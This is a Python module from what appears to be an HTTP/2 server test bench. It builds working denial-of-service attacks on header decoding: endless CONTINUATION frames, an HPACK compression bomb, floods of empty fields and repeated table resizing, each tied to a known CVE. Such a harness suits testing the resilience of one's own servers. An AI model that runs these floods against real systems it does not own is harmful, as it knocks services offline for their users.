"""Field blocks that are small on the wire and costly to hold or to decode."""

from collections.abc import Iterator
from itertools import chain, repeat

from bench.hostile import frames
from bench.hostile.attack import Attack, Ports, filled, flood
from bench.hostile.attacks.floods import stream_flood
from bench.hostile.peer import Peer

TABLE_VALUE = 4000  # bytes: with its name and overhead it fills the decoder's table of 4,096
INDEXED = bytes((0x80 | 62,))  # the newest field of the dynamic table


def continuation_flood(size: int) -> Attack:
    """A header block that never ends, in CONTINUATION frames of this size."""

    def run(target: Ports, seconds: float) -> str:
        begun = frames.frame(frames.HEADERS, 0, 1, frames.block(frames.request_fields(frames.HEALTH)))
        field = filled(frames.frame(frames.CONTINUATION, 0, 1, bytes(size)))
        return flood(Peer(target.port), chain([begun], repeat(field)), seconds)

    return Attack(f"CONTINUATION of {size} bytes", "blocks", run, "CVE-2024-27316")


def hpack_bomb(target: Ports, seconds: float) -> str:
    """A large field in the table, referenced 16,000 times in each block: 64 MB of fields in 16 KB."""
    stored = b"\x40" + b"\x01x" + frames.integer(TABLE_VALUE, 7) + b"v" * TABLE_VALUE
    opening = frames.block(frames.request_fields(frames.HEALTH))

    def chunks() -> Iterator[bytes]:
        yield frames.frame(frames.HEADERS, frames.END_HEADERS, 1, opening + stored)
        for stream in range(3, 1 << 30, 2):
            yield frames.frame(frames.HEADERS, frames.END_HEADERS, stream, opening + INDEXED * 16000)

    return flood(Peer(target.port), chunks(), seconds)


def nameless(stream: int) -> bytes:
    """A stream with 5,000 fields that have neither name nor value."""
    fields = frames.block(frames.request_fields(frames.HEALTH)) + b"\0\0\0" * 5000
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, fields)


def table_resized(stream: int) -> bytes:
    """A stream whose block first changes the table's size 8,000 times."""
    fields = b"\x20\x3f\xe1\x1f" * 4000 + frames.block(frames.request_fields(frames.HEALTH))
    return frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, fields[:16384])


ATTACKS = [
    continuation_flood(0),
    continuation_flood(1),
    continuation_flood(16384),
    Attack("HPACK bomb", "blocks", hpack_bomb, "CVE-2016-6581"),
    Attack("fields without name and value", "blocks", stream_flood(nameless, 2), "CVE-2019-9516"),
    Attack("sizes of the header table", "blocks", stream_flood(table_resized, 2)),
]
